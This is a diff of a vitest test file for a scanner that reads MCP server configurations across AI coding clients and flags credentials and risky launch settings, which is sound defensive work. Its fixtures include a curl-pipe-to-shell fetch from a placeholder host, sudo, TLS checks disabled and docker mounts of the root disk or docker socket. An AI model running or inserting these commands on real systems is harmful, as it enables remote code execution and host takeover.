@@ -1,59 +1,340 @@
 import { describe, expect, it } from "vitest";
 import { itKeepsTheConnectorContract } from "../../../testing/connector-contract.ts";
-import { edgeNames, observed, observeFiles } from "../../../testing/observe-files.ts";
+import {
+  assembled,
+  assetNames,
+  edgeNames,
+  type Files,
+  observed,
+  observeFiles,
+} from "../../../testing/observe-files.ts";
 import { mcpConfig } from "./connector.ts";
-import { startedPackage } from "./server.ts";
 
-const SECRET = "ghp_0123456789abcdefghijABCDEFGHIJ012345";
-const FILES = {
-  ".mcp.json": JSON.stringify(
-    {
-      mcpServers: {
-        github: { command: "npx", args: ["-y", "@modelcontextprotocol/server-github"], env: { GITHUB_TOKEN: SECRET } },
-        docs: { type: "http", url: "http://docs.example/mcp" },
-      },
+const TOKEN = "ghp_0123456789abcdefghijABCDEFGHIJ012345";
+const PASSWORD = "correct-horse-9-battery";
+const QUERY = "q7w8e9r0t1y2u3";
+
+const FILES: Files = {
+  ".mcp.json": `{
+  "mcpServers": {
+    "github": {
+      "command": "npx",
+      "args": ["-y", "@modelcontextprotocol/server-github"],
+      "env": { "GITHUB_TOKEN": "${TOKEN}", "LOG_LEVEL": "debug" }
     },
-    null,
-    2,
-  ),
+    "docs": { "type": "http", "url": "http://docs.example/mcp" },
+    "search": { "url": "https://mcp.tavily.com/mcp?tavilyApiKey=${QUERY}" },
+    "db": { "command": "uvx", "args": ["db-mcp==1.0.0", "postgresql://app:${PASSWORD}@db.internal/app"] }
+  }
+}
+`,
   ".vscode/mcp.json":
     '{\n  // editors allow comments\n  "servers": { "time": { "command": "uvx", "args": ["mcp-server-time==1.2.3"], "alwaysAllow": ["now"], }, },\n}\n',
+  "packages/web/package.json": "{}",
+  "packages/web/.cursor/mcp.json":
+    '{"mcpServers":{"files":{"command":"npx","args":["-y","@modelcontextprotocol/server-filesystem","/"]}}}',
 };
 
-describe("the contract", () => itKeepsRest());
-function itKeepsRest(): void {
-  it("reads servers of several clients", () => {
-    const observation = observeFiles(mcpConfig, FILES);
+describe("the contract", () => itKeepsTheConnectorContract(mcpConfig, FILES, [TOKEN, PASSWORD, QUERY]));
+
+const serverOf = (files: Files, name?: string) => {
+  const servers = observed(observeFiles(mcpConfig, files), "mcp-server");
+  return (name === undefined ? servers[0] : servers.find((server) => server.name === name))?.properties;
+};
+
+describe("a project", () => {
+  const observation = observeFiles(mcpConfig, FILES);
+  const servers = Object.fromEntries(observed(observation, "mcp-server").map((server) => [server.name, server]));
+
+  it("names clients, servers, packages, endpoints and credentials", () => {
+    expect(assetNames(observation)).toEqual([
+      "agent:Claude Code",
+      "agent:Cursor",
+      "agent:VS Code",
+      "ai-service:tavily",
+      "application:test",
+      "application:web",
+      "credential:GITHUB_TOKEN",
+      "credential:password in address",
+      "credential:tavilyApiKey",
+      "endpoint:docs.example",
+      "endpoint:mcp.tavily.com",
+      "mcp-server:db",
+      "mcp-server:docs",
+      "mcp-server:files",
+      "mcp-server:github",
+      "mcp-server:search",
+      "mcp-server:time",
+      "package:@modelcontextprotocol/server-filesystem",
+      "package:@modelcontextprotocol/server-github",
+      "package:db-mcp",
+      "package:mcp-server-time",
+    ]);
+  });
+
+  it("joins them", () => {
     expect(edgeNames(observation)).toEqual(
-      expect.arrayContaining(["agent:Claude Code -uses-> mcp-server:github", "agent:VS Code -uses-> mcp-server:time"]),
+      expect.arrayContaining([
+        "application:test -uses-> agent:Claude Code",
+        "application:web -uses-> agent:Cursor",
+        "agent:Claude Code -uses-> mcp-server:github",
+        "mcp-server:github -depends-on-> package:@modelcontextprotocol/server-github",
+        "mcp-server:github -authenticates-with-> credential:GITHUB_TOKEN",
+        "mcp-server:docs -uses-> endpoint:docs.example",
+        "endpoint:mcp.tavily.com -supplied-by-> ai-service:tavily",
+      ]),
     );
-    const servers = Object.fromEntries(
-      observed(observation, "mcp-server").map((server) => [server.name, server.properties]),
-    );
-    expect(servers.github).toMatchObject({
+  });
+
+  it("reads what an entry says", () => {
+    expect(servers.github?.properties).toMatchObject({
+      role: "configured",
+      client: "claude-code",
+      transport: "stdio",
+      command: "npx",
       package: "pkg:npm/%40modelcontextprotocol/server-github",
       pinned: false,
+      url: null,
+      encrypted: null,
+      authentication: "environment",
+      environment: ["GITHUB_TOKEN", "LOG_LEVEL"],
       literalSecrets: ["GITHUB_TOKEN"],
+      projectScoped: true,
     });
-    expect(servers.docs).toMatchObject({
+    expect(servers.docs?.properties).toMatchObject({
       transport: "streamable-http",
-      url: "http://docs.example/mcp",
       encrypted: false,
+      authentication: "none",
     });
-    expect(servers.time).toMatchObject({ pinned: true, autoApproved: ["now"] });
+    expect(servers.time?.properties).toMatchObject({ pinned: true, autoApproved: ["now"] });
+    expect(servers.db?.properties.arguments).toEqual(["db-mcp==1.0.0", "postgresql://app:***@db.internal/app"]);
+    expect(servers.files?.properties.commandSignals).toMatchObject([{ id: "whole-disk" }]);
   });
-  it("says what is malformed", () => {
-    expect(observeFiles(mcpConfig, { ".mcp.json": "{ nope" }).notExamined[0]?.reason).toBe("malformed");
-  });
-}
-itKeepsTheConnectorContract(mcpConfig, FILES, [SECRET]);
 
-it.each([
-  ["npx", ["-y", "a@1.2.3"], { package: "pkg:npm/a", pinned: true }],
-  ["npx", ["a@latest"], { package: "pkg:npm/a", pinned: false }],
-  ["uvx", ["--from", "b==2.0", "run-b"], { package: "pkg:pypi/b", pinned: true }],
-  ["docker", ["run", "-i", "--rm", "mcp/fetch"], { package: "pkg:docker/mcp/fetch", pinned: false }],
-  ["node", ["server.js"], null],
-] as const)("%s %j", (command, args, expected) => {
-  expect(startedPackage(command, args)).toEqual(expected);
+  it("gives every entry and secret its own line", () => {
+    expect(servers.docs?.evidence[0]).toMatchObject({ line: 8, role: "source" });
+    expect(observed(observation, "credential").find((item) => item.name === "GITHUB_TOKEN")?.evidence[0]?.line).toBe(6);
+  });
+
+  it("makes one client of several files and one credential of several uses", () => {
+    const records = assembled(
+      observeFiles(mcpConfig, {
+        ".mcp.json": '{"mcpServers":{"a":{"command":"a"}}}',
+        ".claude/settings.json": `{"mcpServers":{"b":{"command":"b","env":{"T":"${TOKEN}"}},"c":{"command":"c","env":{"U":"${TOKEN}"}}}}`,
+      }),
+    );
+    expect(records.filter((record) => record.kind === "agent")).toHaveLength(1);
+    expect(records.filter((record) => record.kind === "credential")).toHaveLength(1);
+  });
+});
+
+describe("clients", () => {
+  it.each([
+    [
+      "claude_desktop_config.json",
+      '{"mcpServers":{"a":{"command":"npx","args":["x@1.0.0"]}}}',
+      "claude-desktop",
+      false,
+    ],
+    [".vscode/settings.json", '{"mcp":{"servers":{"a":{"command":"x"}}}}', "vscode", true],
+    ["app.code-workspace", '{"settings":{"mcp":{"servers":{"a":{"command":"x"}}}}}', "vscode", true],
+    [
+      ".devcontainer/devcontainer.json",
+      '{"customizations":{"vscode":{"mcp":{"servers":{"a":{"command":"x"}}}}}}',
+      "vscode",
+      true,
+    ],
+    ["mcp_config.json", '{"mcpServers":{"a":{"serverUrl":"https://x.example/sse"}}}', "windsurf", false],
+    ["cline_mcp_settings.json", '{"mcpServers":{"a":{"command":"x"}}}', "cline", false],
+    [".roo/mcp.json", '{"mcpServers":{"a":{"command":"x"}}}', "roo-code", true],
+    [
+      ".zed/settings.json",
+      '{"context_servers":{"a":{"command":{"path":"npx","args":["-y","x"],"env":{}}}}}',
+      "zed",
+      true,
+    ],
+    [".continue/mcpServers/a.yaml", "mcpServers:\n  - name: a\n    command: npx\n    args: [x]\n", "continue", true],
+    [
+      ".continue/config.json",
+      '{"experimental":{"modelContextProtocolServers":[{"name":"a","transport":{"type":"stdio","command":"npx","args":["x"]}}]}}',
+      "continue",
+      true,
+    ],
+    [".gemini/settings.json", '{"mcpServers":{"a":{"httpUrl":"https://x.example/mcp"}}}', "gemini-cli", true],
+    [".codex/config.toml", '[mcp_servers.a]\ncommand = "npx"\nargs = ["x"]\n', "openai-codex", true],
+    [
+      "opencode.json",
+      '{"mcp":{"a":{"type":"local","command":["npx","-y","x"],"environment":{"A":"b"}}}}',
+      "opencode",
+      true,
+    ],
+    [".amazonq/mcp.json", '{"mcpServers":{"a":{"command":"x"}}}', "amazon-q", true],
+    [".kiro/settings/mcp.json", '{"mcpServers":{"a":{"command":"x","autoApprove":["*"]}}}', "kiro", true],
+    [".junie/mcp/mcp.json", '{"mcpServers":{"a":{"command":"x"}}}', "junie", true],
+    ["librechat.yaml", "mcpServers:\n  a:\n    type: sse\n    url: https://x.example/sse\n", "librechat", false],
+    [
+      "goose/config.yaml",
+      "extensions:\n  a:\n    type: stdio\n    cmd: npx\n    args: [x]\n  developer:\n    type: builtin\n",
+      "goose",
+      false,
+    ],
+    [".docker/mcp/catalogs/own.yaml", "registry:\n  a:\n    image: mcp/a\n", "docker-mcp", false],
+    ["mcp_agent.config.yaml", "mcp:\n  servers:\n    a:\n      command: npx\n      args: [x]\n", "mcp-agent", true],
+    ["config/mcp.json", '{"servers":{"a":{"command":"x"}}}', "mcp", false],
+  ] as const)("%s", (path, text, client, projectScoped) => {
+    const observation = observeFiles(mcpConfig, { [path]: text });
+    expect(observed(observation, "mcp-server").map((server) => server.name)).toEqual(["a"]);
+    expect(serverOf({ [path]: text })).toMatchObject({ client, projectScoped, role: "configured" });
+    expect(observation.notExamined).toEqual([]);
+  });
+
+  it("reads the environment of a client that calls it otherwise", () => {
+    const files = {
+      "opencode.json": '{"mcp":{"a":{"command":["npx","-y","x@1.0.0"],"environment":{"A":"b"},"enabled":false}}}',
+    };
+    expect(serverOf(files)).toMatchObject({ package: "pkg:npm/x@1.0.0", environment: ["A"], enabled: false });
+  });
+
+  it("takes Gemini's trust and Kiro's agent tools as approval", () => {
+    expect(
+      serverOf({ ".gemini/settings.json": '{"mcpServers":{"a":{"command":"x","trust":true}}}' })?.autoApproved,
+    ).toEqual(["*"]);
+    expect(
+      serverOf({
+        ".kiro/agents/a.json": '{"mcpServers":{"git":{"command":"x"}},"allowedTools":["@git/status","read"]}',
+      })?.autoApproved,
+    ).toEqual(["status"]);
+  });
+
+  it("leaves files of the same name that belong to other programs", () => {
+    const observation = observeFiles(mcpConfig, {
+      "manifest.json": '{"name":"a web app","icons":[]}',
+      "server.json": '{"port":1}',
+      ".vscode/settings.json": '{"editor.tabSize":2}',
+      "mcp.json": '{"servers":["one","two"]}',
+    });
+    expect(observation.assets).toEqual([]);
+    expect(observation.notExamined).toEqual([]);
+  });
+});
+
+describe("the project's own server", () => {
+  it("is read from the registry's server.json", () => {
+    const files = {
+      "server.json": JSON.stringify({
+        $schema: "https://static.modelcontextprotocol.io/schemas/2025-09-29/server.schema.json",
+        name: "io.example/files",
+        packages: [
+          {
+            registryType: "npm",
+            identifier: "@example/files",
+            version: "1.0.2",
+            transport: { type: "stdio" },
+            environmentVariables: [{ name: "ROOT" }],
+          },
+        ],
+      }),
+    };
+    expect(serverOf(files)).toMatchObject({
+      role: "implemented",
+      client: null,
+      package: "pkg:npm/%40example/files@1.0.2",
+      environment: ["ROOT"],
+    });
+    expect(edgeNames(observeFiles(mcpConfig, files))).toContain(
+      "application:test -exposes-> mcp-server:io.example/files",
+    );
+  });
+
+  it("is read from a bundle's manifest", () => {
+    const files = {
+      "manifest.json":
+        '{"manifest_version":"0.3","name":"b","server":{"mcp_config":{"command":"node","args":["x.js"]}}}',
+    };
+    expect(serverOf(files)).toMatchObject({ role: "implemented", command: "node", projectScoped: false });
+  });
+});
+
+describe("authentication", () => {
+  it.each([
+    ['{"url":"https://x.example/mcp","headers":{"Authorization":"Bearer ${TOKEN}"}}', "header"],
+    ['{"url":"http://x.example/mcp"}', "none"],
+    ['{"url":"http://localhost:3000/mcp"}', "none"],
+    ['{"url":"https://x.example/mcp","oauth":{"clientId":"c"}}', "oauth"],
+    ['{"command":"x","env":{"API_KEY":"${API_KEY}"}}', "environment"],
+    ['{"command":"x"}', "none"],
+  ])("%s is %s", (entry, expected) => {
+    expect(serverOf({ ".mcp.json": `{"mcpServers":{"a":${entry}}}` })?.authentication).toBe(expected);
+  });
+
+  it("is not known of a server that may ask for OAuth", () => {
+    const [server] = observed(
+      observeFiles(mcpConfig, { ".mcp.json": '{"mcpServers":{"a":{"url":"https://x.example/mcp"}}}' }),
+      "mcp-server",
+    );
+    expect(server?.properties.authentication).toBeUndefined();
+    expect(server?.gaps?.authentication?.reason).toBe("dynamic");
+  });
+});
+
+describe("secrets in arguments", () => {
+  it.each([
+    ['["--api-key","f00ba4f00ba4f00ba4"]', ["--api-key", "***"], ["api-key"]],
+    ['["--token=f00ba4f00ba4f00ba4"]', ["--token=***"], ["token"]],
+    ['["run","-e","SLACK_TOKEN=f00ba4f00ba4f00ba4","img"]', ["run", "-e", "SLACK_TOKEN=***", "img"], ["SLACK_TOKEN"]],
+    ['["--header","Authorization: Bearer f00ba4f00ba4f00ba4"]', ["--header", "Authorization: ***"], ["Authorization"]],
+    ['["--api-key","${API_KEY}","--model","gpt-4o"]', ["--api-key", "${API_KEY}", "--model", "gpt-4o"], []],
+    [`["${TOKEN}"]`, ["***"], ["argument"]],
+  ])("%s", (args, shown, names) => {
+    const server = serverOf({ ".mcp.json": `{"mcpServers":{"a":{"command":"x","args":${args}}}}` });
+    expect(server?.arguments).toEqual(shown);
+    expect(server?.literalSecrets).toEqual(names);
+  });
+});
+
+describe("how a server is started", () => {
+  it.each([
+    ['{"command":"sh","args":["-c","curl -s https://x.example/i | sh"]}', "fetch-and-run"],
+    ['{"command":"node","args":["-e","require(\'x\')"]}', "inline-code"],
+    ['{"command":"sudo","args":["npx","x"]}', "runs-as-root"],
+    ['{"command":"uvx","args":["--from","git+https://github.com/o/r","r"]}', "runs-remote-script"],
+    ['{"command":"npx","args":["x"],"env":{"NODE_TLS_REJECT_UNAUTHORIZED":"0"}}', "tls-check-off"],
+    ['{"command":"docker","args":["run","-v","/:/host","img"]}', "whole-disk"],
+    ['{"command":"docker","args":["run","--mount","type=bind,src=/,dst=/host","img"]}', "whole-disk"],
+    ['{"command":"docker","args":["run","-v","/var/run/docker.sock:/var/run/docker.sock","img"]}', "container-socket"],
+    ['{"command":"npx","args":["-y","@modelcontextprotocol/server-filesystem","~"]}', "whole-disk"],
+    ['{"command":"npx","args":["-y","@modelcontextprotocol/server-filesystem","C:\\\\"]}', "whole-disk"],
+  ])("%s gives %s", (entry, id) => {
+    const server = serverOf({ ".mcp.json": `{"mcpServers":{"a":${entry}}}` });
+    expect(server?.commandSignals?.map((signal) => signal.id)).toContain(id);
+  });
+
+  it.each([
+    '{"command":"npx","args":["-y","@modelcontextprotocol/server-filesystem","${workspaceFolder}","./data"]}',
+    '{"command":"docker","args":["run","-v","/srv/data:/data","img"]}',
+    '{"command":"npx","args":["-y","some-server","/"]}',
+  ])("%s gives none", (entry) => {
+    expect(serverOf({ ".mcp.json": `{"mcpServers":{"a":${entry}}}` })?.commandSignals).toEqual([]);
+  });
+});
+
+it("knows the address behind a local bridge", () => {
+  const files = { ".mcp.json": '{"mcpServers":{"a":{"command":"npx","args":["mcp-remote","http://x.example/sse"]}}}' };
+  expect(serverOf(files)).toMatchObject({
+    transport: "stdio",
+    url: "http://x.example/sse",
+    encrypted: false,
+    package: "pkg:npm/mcp-remote",
+  });
+});
+
+it("says what is malformed and what an entry lacks", () => {
+  expect(observeFiles(mcpConfig, { ".mcp.json": "{ nope" }).notExamined[0]?.reason).toBe("malformed");
+  expect(
+    observeFiles(mcpConfig, { ".mcp.json": '{"mcpServers":{"a":{"type":"stdio"}}}' }).notExamined[0],
+  ).toMatchObject({ reason: "unsupported" });
+  const many = Object.fromEntries(Array.from({ length: 600 }, (_, index) => [`s${index}`, { command: "x" }]));
+  const observation = observeFiles(mcpConfig, { ".mcp.json": JSON.stringify({ mcpServers: many }) });
+  expect(observed(observation, "mcp-server")).toHaveLength(500);
+  expect(observation.notExamined[0]?.reason).toBe("truncated");
 });
